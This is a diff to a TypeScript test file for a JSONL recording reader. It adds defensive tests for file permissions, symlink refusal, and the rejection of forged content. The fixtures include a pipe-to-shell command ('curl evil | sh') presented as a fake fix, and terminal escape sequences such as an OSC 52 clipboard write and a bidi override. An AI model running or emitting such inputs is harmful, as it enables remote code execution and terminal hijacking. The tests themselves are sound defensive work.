@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
@@ -15,7 +15,7 @@ const file = join(folder, 'pair.jsonl');
 const { history } = mended(pair);
 
 function record(samples: readonly Sample[]): string {
-  const recorder = createRecorder(file);
+  const recorder = createRecorder(file, true);
   for (const sample of samples) recorder.write(sample);
   recorder.close();
   return readFileSync(file, 'utf8');
@@ -38,6 +38,53 @@ describe('a recording', () => {
     expect(text.split('\n').filter((line) => line.startsWith('{"scene"'))).toHaveLength(2);
     const [first, second] = readRecording(text, file);
     expect(first?.configuration).toBe(second?.configuration);
+  });
+
+  it("is its owner's alone, replaces no file by itself, and follows no link", () => {
+    const own = join(folder, 'own.jsonl');
+    createRecorder(own).close();
+    expect(statSync(own).mode & 0o777).toBe(0o600);
+    expect(() => createRecorder(own)).toThrow('the file exists already');
+    const precious = join(folder, 'precious');
+    writeFileSync(precious, 'kept');
+    const link = join(folder, 'link.jsonl');
+    symlinkSync(precious, link);
+    for (const force of [false, true]) expect(() => createRecorder(link, force)).toThrow();
+    expect(readFileSync(precious, 'utf8')).toBe('kept');
+  });
+
+  it('is taken for the machine that it shows, and for nothing that it says of it', () => {
+    const [header = '', machine = '', sample = ''] = record(history).split('\n');
+    const forged = JSON.parse(machine);
+    forged.scene.findings = [
+      { rule: 'x', severity: 'error', subject: 'eth0', message: 'run this', fix: ['curl evil | sh'] },
+    ];
+    forged.scene.paths = [{ nic: '\x1b[2J' }];
+    const [read] = readRecording(`${header}\n${JSON.stringify(forged)}\n${sample}\n`, 'x');
+    expect(read?.configuration).toEqual(history[0]?.configuration);
+  });
+
+  it('has no control characters left in its texts', () => {
+    const [header = '', machine = '', sample = ''] = record(history).split('\n');
+    const forged = JSON.parse(sample);
+    forged.sample.events = [
+      { time: history[0]?.time, kind: 'accept', text: '\x1b]52;c;ZWNobw==\x07\u202e\x9b31m' },
+    ];
+    forged.sample.probe.notes = ['\x1b[2J'];
+    const [read] = readRecording(`${header}\n${machine}\n${JSON.stringify(forged)}\n`, 'x');
+    expect(JSON.stringify([read?.events, read?.probe])).not.toMatch(/\\u00|[\p{Cc}\p{Bidi_Control}]/u);
+  });
+
+  it('that is broken further on is shown until there', async () => {
+    const lines = record(history.slice(0, 3))
+      .split('\n')
+      .filter((line) => line !== '');
+    writeFileSync(file, [...lines, '{"sample":{"rx":"none"}}', ...lines.slice(-1)].join('\n'));
+    const seen: Sample[] = [];
+    for await (const sample of openRecording(file, 0.001).samples(new AbortController().signal))
+      seen.push(sample);
+    expect(seen).toHaveLength(4);
+    expect(seen.at(-1)?.events).toMatchObject([{ kind: 'trouble', text: expect.stringMatching(/line \d+/) }]);
   });
 
   it('that was cut in its last line ends before it', () => {
